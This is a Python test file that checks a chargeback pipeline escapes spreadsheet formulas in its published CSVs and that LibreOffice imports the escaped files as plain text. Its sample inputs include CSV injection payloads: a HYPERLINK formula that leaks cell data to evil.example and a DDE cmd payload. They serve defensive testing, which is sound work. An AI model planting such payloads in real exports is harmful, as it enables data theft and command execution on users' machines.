"""CSV formula injection: a text cell that a spreadsheet would run as a formula is written with a leading
single quote (OWASP), in every published CSV; numbers, dates and everyday ids are written as before, and
the Parquet files keep the exact values.

The CSVs are read back as a spreadsheet would: with Python's csv module, and with LibreOffice Calc
headless (`soffice`, when installed: `apt-get install libreoffice-calc`) importing them with formula
evaluation on, converted to flat ODS, whose XML says which cells became formulas.
"""

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from chargeback_pipeline.cli.backfill import backfill
from chargeback_pipeline.sources.folder.resource import FolderSourceResource
from chargeback_pipeline.storage.report_files import csv_bytes, escape_formula, unescape_formula
from chargeback_pipeline_tests.conftest import local_resources, pipeline
from chargeback_pipeline_tests.folder_data import DAY, GATEWAY_ROWS, LLM_ROWS, PAYGO, gateway, llm, write_export

# Cells OWASP says a spreadsheet may run as a formula: starting with = + - @ tab or carriage return.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
EVERYDAY = ["unassigned", "logged-not-billable", "platform-unallocated", "unattributed", "alpha", "sub-1", ""]
THE_DAY = date.fromisoformat(DAY)
SPREADSHEET_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MONEY = pa.decimal128(18, 6)


def legacy_csv_bytes(table: pa.Table) -> bytes:
    """The writer before formula escaping (its exact code): everyday data must give the same bytes."""

    def value_of(value) -> str:
        if value is None:
            return ""
        if isinstance(value, datetime):
            return value.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        if isinstance(value, date):
            return value.isoformat()
        return str(value)

    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow(table.column_names)
    for batch in table.to_batches():
        columns = [column.to_pylist() for column in batch.columns]
        writer.writerows([value_of(v) for v in row] for row in zip(*columns, strict=True))
    return buffer.getvalue().encode("utf-8")


def lines_table(products: list[str | None]) -> pa.Table:
    n = len(products)
    return pa.table(
        {
            "usage_date": pa.array([date(2026, 3, 10)] * n, pa.date32()),
            "product_id": pa.array(products, pa.string()),
            "subscription_id": pa.array(["-sub" if p else None for p in products], pa.string()),
            "total_tokens": pa.array([-(2**40) + i for i in range(n)], pa.int64()),
            "total_cost": pa.array([Decimal("-1.500000") + i for i in range(n)], MONEY),
            "first_seen": pa.array([datetime(2026, 3, 10, 8, 0, 0, 1, tzinfo=UTC)] * n, pa.timestamp("us", tz="UTC")),
            "dictionary_name": pa.array(products, pa.string()).dictionary_encode(),
        }
    )


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_cells_get_a_leading_quote_numbers_do_not():
    data = csv_bytes(lines_table(FORMULAS))

    header, *rows = csv_rows(data)
    assert header == [
        "usage_date",
        "product_id",
        "subscription_id",
        "total_tokens",
        "total_cost",
        "first_seen",
        "dictionary_name",
    ]
    for row, product in zip(rows, FORMULAS, strict=True):
        assert row[1] == "'" + product and row[6] == "'" + product  # plain and dictionary-encoded text
        assert unescape_formula(row[1]) == product
        assert row[2] == "'-sub"
    # numbers stay numbers: negative tokens and money are written as they are
    assert [row[3] for row in rows] == [str(-(2**40) + i) for i in range(len(FORMULAS))]
    assert rows[0][4] == "-1.500000" and rows[0][0] == "2026-03-10" and rows[0][5] == "2026-03-10T08:00:00.000001Z"


def test_escaping_is_reversible_and_leaves_other_text_alone():
    for value in [*FORMULAS, "'already quoted", "''", "'", *EVERYDAY, " =padded", "a=b", "1-2", "ünï"]:
        assert unescape_formula(escape_formula(value)) == value
    assert escape_formula("'=1+1") == "''=1+1"  # a literal quote never reads as an escape
    assert [escape_formula(value) for value in EVERYDAY] == EVERYDAY
    assert escape_formula(" =padded") == " =padded" and escape_formula("a=b") == "a=b"


def test_everyday_data_is_byte_identical_to_the_writer_before_escaping():
    hostile_but_safe = [
        "comma, inside",
        'quote " inside',
        "line\nbreak",
        "crlf\r\nbreak",
        "ünïcødé 製品 🚀",
        " padded ",
    ]
    table = lines_table([*EVERYDAY, *hostile_but_safe, None]).set_column(
        2, "subscription_id", pa.array(["sub-1"] * (len(EVERYDAY) + len(hostile_but_safe) + 1), pa.string())
    )
    tags = pa.table(
        {
            "Tags": ['{"x_apim-subscription": "sub-1", "x_model": "gpt-4.1"}'],
            "ResourceId": ["/subscriptions/s/resourceGroups/rg/providers/Microsoft.CognitiveServices/accounts/a"],
            "BilledCost": pa.array([Decimal("-0.010000")], MONEY),
            "x_RateEffectiveFrom": pa.array([date(2026, 1, 1)], pa.date32()),
        }
    )

    assert csv_bytes(table) == legacy_csv_bytes(table)
    assert csv_bytes(tags) == legacy_csv_bytes(tags)
    assert csv_bytes(table.slice(0, 0)) == legacy_csv_bytes(table.slice(0, 0))


# --- LibreOffice Calc ----------------------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
# CSV import: comma, double quote, UTF-8, from line 1, standard cells, en-US, quoted fields not forced to
# text, special numbers detected, ..., and (token 13) formulas evaluated: the most trusting import.
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


def _tag(namespace: str, name: str) -> str:
    return f"{{{NS[namespace]}}}{name}"


def _paragraph_text(element) -> str:
    """A text:p's text as the cell holds it (tabs, runs of spaces and line breaks are elements in ODF)."""
    parts = [element.text or ""]
    for child in element:
        if child.tag == _tag("text", "tab"):
            parts.append("\t")
        elif child.tag == _tag("text", "s"):
            parts.append(" " * int(child.get(_tag("text", "c"), "1")))
        elif child.tag == _tag("text", "line-break"):
            parts.append("\n")
        else:
            parts.append(_paragraph_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


def spreadsheet_cells(fods: Path) -> list[list[dict]]:
    """Every row of the first sheet: per cell its text, value type and formula (None when not one)."""
    sheet = next(ET.parse(fods).getroot().iter(_tag("table", "table")))
    rows = []
    for row in sheet.iter(_tag("table", "table-row")):
        cells = []
        for cell in row.findall("table:table-cell", NS):
            repeated = int(cell.get(_tag("table", "number-columns-repeated"), "1"))
            text = "\n".join(_paragraph_text(p) for p in cell.findall("text:p", NS))
            found = {
                "text": text,
                "type": cell.get(_tag("office", "value-type")),
                "formula": cell.get(_tag("table", "formula")),
            }
            cells += [found] * min(repeated, 64)  # trailing empty cells repeat up to the sheet's width
        rows.append(cells)
    return rows


def open_in_calc(csv_files: list[Path], workdir: Path) -> dict[str, list[list[dict]]]:
    """Import each CSV into LibreOffice Calc (formulas evaluated) and return its cells by file stem."""
    out = workdir / "calc"
    command = [
        SOFFICE,
        f"-env:UserInstallation=file://{workdir / 'lo-profile'}",
        "--headless",
        "--convert-to",
        "fods",
        f"--infilter={CSV_IMPORT}",
        "--outdir",
        str(out),
        *map(str, csv_files),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return {path.stem: spreadsheet_cells(out / f"{path.stem}.fods") for path in csv_files}


needs_calc = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")


@needs_calc
def test_calc_reads_escaped_cells_as_text_and_money_as_numbers(tmp_path):
    table = lines_table(FORMULAS)
    (tmp_path / "escaped.csv").write_bytes(csv_bytes(table))
    (tmp_path / "unescaped.csv").write_bytes(legacy_csv_bytes(table))

    sheets = open_in_calc([tmp_path / "escaped.csv", tmp_path / "unescaped.csv"], tmp_path)

    # the import really evaluates formulas: the writer before escaping let them run
    assert any(cell["formula"] for row in sheets["unescaped"][1:] for cell in row[:2])
    header, *rows = sheets["escaped"]
    assert [cell["text"] for cell in header[:7]] == table.column_names
    for row, product in zip(rows, FORMULAS, strict=True):
        assert [cell["formula"] for cell in row] == [None] * len(row), row
        assert row[1]["type"] == "string" and row[1]["text"].startswith("'"), row[1]
        assert unescape_formula(row[1]["text"]).lstrip("\t\r\n") == product.lstrip("\t\r\n")
        assert row[6]["type"] == "string" and row[6]["text"].startswith("'")
        assert row[3]["type"] == "float" and row[4]["type"] == "float"  # negative tokens and money: numbers
    assert rows[0][4]["text"] == "-1.5" and rows[0][3]["text"] == str(-(2**40))


# --- end to end: every published CSV ---------------------------------------------------------------------------


def published_csvs(root: Path) -> dict[str, Path]:
    daily = root / f"daily/usage_date={DAY}"
    return {
        "product_usage": daily / "product_usage.csv",
        "chargeback": daily / "chargeback.csv",
        "focus": daily / "focus.csv",
        "statement": root / f"monthly/month={DAY[:7]}/statement.csv",
    }


@pytest.fixture
def hostile_day(tmp_path, instance) -> Path:
    """The folder export plus one request per formula-like product name, backfilled: the reports' root."""
    gateway_rows, llm_rows = list(GATEWAY_ROWS), list(LLM_ROWS)
    for i, product in enumerate(FORMULAS):
        cid, time = f"f-{i}", f"17:0{i}:00"
        gateway_rows.append(gateway(cid, time, product, backend=PAYGO, subscription=f"-sub-{i}"))
        llm_rows.append(llm(cid, f"17:0{i}:01", 100 + i, 10, model="gpt-4o", deployment="gpt-4o"))
    export = write_export(tmp_path / "export", gateway_rows, llm_rows)
    resources = local_resources(tmp_path, FolderSourceResource(source_folder=str(export)))
    backfill(THE_DAY, THE_DAY, pipeline(resources), instance)
    return tmp_path / "reports"


def test_every_published_csv_escapes_formula_cells_and_parquet_keeps_them(hostile_day):
    for name, path in published_csvs(hostile_day).items():
        parquet = pq.read_table(path.with_suffix(".parquet"))
        header, *rows = csv_rows(path.read_bytes())
        assert header == parquet.column_names and len(rows) == parquet.num_rows, name
        text_columns = [i for i, field in enumerate(parquet.schema) if pa.types.is_string(field.type)]
        found = set()
        for row, exact in zip(rows, parquet.to_pylist(), strict=True):
            values = list(exact.values())
            for i in text_columns:
                assert not row[i].startswith(SPREADSHEET_TRIGGERS), (name, header[i], row[i])
                assert unescape_formula(row[i]) == (values[i] or ""), (name, header[i])
                if values[i] in FORMULAS:
                    assert row[i] == "'" + values[i]
                    found.add(values[i])
        # every formula-like product reached this file, exactly in its Parquet and escaped in its CSV
        assert found == set(FORMULAS), name


def test_every_published_csv_opens_in_calc_without_a_formula(hostile_day, tmp_path):
    if SOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    copies = []
    for name, path in published_csvs(hostile_day).items():
        copies.append(tmp_path / f"{name}.csv")
        shutil.copyfile(path, copies[-1])

    sheets = open_in_calc(copies, tmp_path)

    for name, cells in sheets.items():
        formulas = [cell for row in cells for cell in row if cell["formula"]]
        assert formulas == [], name
        texts = {cell["text"] for row in cells for cell in row if cell["type"] == "string"}
        assert {"'" + p for p in FORMULAS if not p.startswith(("\t", "\r"))} <= texts, name
